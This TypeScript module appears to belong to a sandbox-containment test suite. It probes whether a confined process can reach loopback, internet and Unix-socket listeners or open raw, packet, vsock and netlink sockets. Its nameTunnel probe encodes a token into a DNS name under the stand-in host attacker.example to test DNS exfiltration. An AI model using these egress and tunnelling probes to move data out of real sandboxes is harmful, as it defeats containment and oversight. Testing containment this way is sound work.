/** Ways out that are no file. */
import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns/promises";
import { connect, type NetConnectOpts } from "node:net";
import { anyOf, carries, held, reached, type Act, type Ground, type Outcome } from "../ground.ts";
import { loadNative } from "../native.ts";

const waitMsMax = 1_000;

/** Reached when the other side greets with a secret: an open connection alone may be one to the gateway. */
async function greeted(options: NetConnectOpts): Promise<Outcome> {
  return await new Promise((resolve) => {
    const socket = connect(options);
    const finish = (outcome: Outcome): void => {
      socket.destroy();
      resolve(outcome);
    };
    socket.setTimeout(waitMsMax, () => finish(held("silence")));
    socket.once("error", (error) => finish(held("code" in error ? String(error.code) : error.message)));
    socket.once("data", (data) => finish(carries(data.toString())));
    socket.once("close", () => finish(held("closed")));
  });
}

const each = (targets: Ground["listeners"]): Promise<Outcome> =>
  anyOf(
    Object.fromEntries(
      targets.map(({ address, port }) => [`${address} ${port}`, () => greeted({ host: address, port })]),
    ),
  );

export const hostLoopback: Act = (ground) => each(ground.listeners);
export const internet: Act = (ground) => each(ground.internet);
export const unixSocket: Act = (ground) => greeted({ path: ground.unixSocket });
export const abstractSocket: Act = (ground) => greeted({ path: `\0${ground.abstractSocket}` });

/** Whether a name, and with it whatever is encoded in it, gets out; whoever is asked answers nothing. */
export const nameTunnel: Act = (ground) => {
  const name = `${ground.token}.tunnel.attacker.example`;
  return anyOf({
    packet: async () => {
      const [address = "", port = ""] = ground.resolver.split(":");
      const socket = createSocket("udp4");
      const error = await new Promise<Error | null>((resolve) => {
        socket.once("error", resolve);
        socket.send(`${ground.token} by packet`, Number(port), address, resolve);
      });
      socket.close();
      return error === null ? held("sent, if anybody listens") : held(error.message);
    },
    server: async () => {
      const resolver = new Resolver({ timeout: 200, tries: 1 });
      resolver.setServers([ground.resolver]);
      return held((await resolver.resolveTxt(name)).join());
    },
    ...Object.fromEntries(
      ground.names.map((one) => [one, async () => reached((await lookup(`${ground.token}.${one}`)).address)]),
    ),
  });
};

const kinds = {
  raw: [2, 3, 1],
  packet: [17, 3, 0],
  vsock: [40, 1, 0],
  algorithm: [38, 5, 0],
  "netlink audit": [16, 3, 9],
} as const;

export const strangeSockets: Act = async () => {
  const native = await loadNative();
  if (native === undefined) return { kind: "cannot", detail: "needs koffi on x86-64" };
  return anyOf(
    Object.fromEntries(
      Object.entries(kinds).map(([name, words]) => [
        name,
        () => {
          const socket = native.call("socket", ...words);
          if (socket < 0n) return held(`error ${-socket}`);
          native.call("close", socket);
          return reached("opened");
        },
      ]),
    ),
  );
};
